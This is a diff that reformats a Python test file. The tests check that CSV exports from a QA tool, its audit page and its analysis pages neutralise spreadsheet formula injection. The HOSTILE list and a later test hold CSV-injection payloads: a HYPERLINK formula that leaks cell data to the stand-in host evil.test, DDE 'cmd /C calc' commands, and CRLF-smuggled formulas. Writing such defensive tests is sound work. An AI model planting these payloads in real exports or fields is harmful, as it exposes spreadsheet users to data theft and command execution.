@@ -3,6 +3,7 @@
 (a single quote in front, OWASP's advice), in the QA reports (CLI and the lab's download), the Audit
 page's export and the analysis pages' download — read back here with the csv module, as a spreadsheet
 would split them."""
+
 from __future__ import annotations
 
 import csv
@@ -17,16 +18,39 @@ from qa import analysis, report
 from qa.runner import RunSpec, Source, create_run
 from tests.support.apptest import assert_clean
 
-HOSTILE = ['=HYPERLINK("http://evil.test/?"&A1,"open")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.test/?"&A1,"open")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1",
+]
 
 
-@pytest.mark.parametrize("value, written", [
-    *[(v, "'" + v) for v in HOSTILE],
-    ("-0.5", "-0.5"), ("+3", "+3"), ("-1e-05", "-1e-05"), (-1, -1), (-0.5, -0.5), (0.25, 0.25), (True, True),
-    (None, None), ("plain.png", "plain.png"), ("", ""), ("-", "'-"), ("-inf", "'-inf"), (float("-inf"), "'-inf"),
-    ("-1-1", "'-1-1"), ("'=already", "'=already"), ("a=b", "a=b"),
-])
+@pytest.mark.parametrize(
+    "value, written",
+    [
+        *[(v, "'" + v) for v in HOSTILE],
+        ("-0.5", "-0.5"),
+        ("+3", "+3"),
+        ("-1e-05", "-1e-05"),
+        (-1, -1),
+        (-0.5, -0.5),
+        (0.25, 0.25),
+        (True, True),
+        (None, None),
+        ("plain.png", "plain.png"),
+        ("", ""),
+        ("-", "'-"),
+        ("-inf", "'-inf"),
+        (float("-inf"), "'-inf"),
+        ("-1-1", "'-1-1"),
+        ("'=already", "'=already"),
+        ("a=b", "a=b"),
+    ],
+)
 def test_safe_cell(value, written):
     assert safe_cell(value) == written
 
@@ -48,8 +72,12 @@ def hostile_run(tmp_path_factory) -> tuple[Any, int, str]:
     from qa.spool import Spool
 
     spool = Spool(factory)
-    rid = create_run(factory, RunSpec("credit-card", "sandbox", "http://127.0.0.1:9", "v2.0"),
-                     [Source(name, b"not an image") for name in HOSTILE], spool)
+    rid = create_run(
+        factory,
+        RunSpec("credit-card", "sandbox", "http://127.0.0.1:9", "v2.0"),
+        [Source(name, b"not an image") for name in HOSTILE],
+        spool,
+    )
     return factory, rid, url
 
 
@@ -66,8 +94,10 @@ def test_qa_report_csv_on_the_command_line(hostile_run, tmp_path):
 
     _, rid, url = hostile_run
     target = tmp_path / "r.csv"
-    assert main(["report", str(rid), "--csv", str(target), "--db", url],
-                out=io.StringIO(), err=io.StringIO()) == 0
+    assert (
+        main(["report", str(rid), "--csv", str(target), "--db", url], out=io.StringIO(), err=io.StringIO())
+        == 0
+    )
     assert _formula_cells(target.read_text("utf-8")) == []
 
 
@@ -96,8 +126,12 @@ def test_the_qa_labs_csv_download_writes_hostile_names_as_text(downloads):
     factory = lab.factory()
     from qa.tasks import spool
 
-    rid = create_run(factory, RunSpec("credit-card", "sandbox", "http://127.0.0.1:9", "v2.0"),
-                     [Source(name, b"not an image") for name in HOSTILE], spool())
+    rid = create_run(
+        factory,
+        RunSpec("credit-card", "sandbox", "http://127.0.0.1:9", "v2.0"),
+        [Source(name, b"not an image") for name in HOSTILE],
+        spool(),
+    )
     at = open_as("admin", "pages/runs.py")
     at.selectbox(key="runs_pick").set_value(rid).run()
     assert_clean(at)
@@ -112,8 +146,18 @@ def test_the_audit_pages_csv_export_writes_hostile_users_and_doors_as_text(downl
     from tests.support.people import open_as
     from ui.billing import ledger
 
-    ledger().append(AuditEvent(kind="api_call", user=HOSTILE[0], role="", where=HOSTILE[1], backend="cloud",
-                               service="credit-card", result_code=-1, latency_ms=-0.5))
+    ledger().append(
+        AuditEvent(
+            kind="api_call",
+            user=HOSTILE[0],
+            role="",
+            where=HOSTILE[1],
+            backend="cloud",
+            service="credit-card",
+            result_code=-1,
+            latency_ms=-0.5,
+        )
+    )
     at = open_as("admin", "pages/audit.py")
     assert_clean(at)
     csvs = [data.decode("utf-8") for data, name in downloads if name and name.startswith("audit-")]
@@ -128,7 +172,7 @@ def test_the_analysis_pages_csv_download_writes_a_hostile_value_as_text():
     from ui.rows import FieldRow, rows_csv
 
     rows = [FieldRow("name", None, "=cmd|' /C calc'!A0", "=1+2", "+SUM(1)", 0.5, None, False)]
-    text = rows_csv(rows, {"endpoint": "http://x\r\n=HYPERLINK(\"http://evil.test\"),=1+1", "masked": True})
+    text = rows_csv(rows, {"endpoint": 'http://x\r\n=HYPERLINK("http://evil.test"),=1+1', "masked": True})
     assert _formula_cells(text) == []  # no metadata line broken into a new row or a cell of its own
     assert [ln for ln in text.splitlines() if ln.startswith("=")] == [] and "# masked: True\r\n" in text
     assert "'=cmd|" in text and "'+SUM(1)" in text  # the label and the value shown
